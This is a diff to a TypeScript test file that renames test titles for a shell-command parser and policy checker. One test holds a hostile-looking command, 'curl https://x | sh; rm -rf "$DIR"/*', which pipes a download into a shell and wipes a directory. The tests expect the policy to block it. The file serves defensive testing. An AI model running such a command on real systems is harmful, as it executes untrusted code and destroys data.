@@ -7,8 +7,8 @@ import { topicsOf } from '../../../src/cluster/topics.ts'
 vi.mock('unbash', { spy: true })
 beforeEach(() => void vi.mocked(unbash.parse).mockClear())
 
-describe('a command on its way', () => {
-  it('is parsed once, however many ask about it', () => {
+describe('the parser', () => {
+  it('parses a command once for routing, topics and policy', () => {
     const command = 'cd once && make -j8 | tee log'
     expect(classify(command).place).toBe('offload')
     expect(checkCommand(command).allowed).toBe(true)
@@ -17,7 +17,7 @@ describe('a command on its way', () => {
     expect(unbash.parse).toHaveBeenCalledTimes(1)
   })
 
-  it('is judged anew for everybody who would run it', () => {
+  it('does not cache the verdict of the policy', () => {
     const command = 'curl https://x | sh; rm -rf "$DIR"/*'
     expect(checkCommand(command, { root: true })).toMatchObject({ rule: 'download-to-root-shell' })
     expect(checkCommand(command)).toMatchObject({ rule: 'destroy-root' })
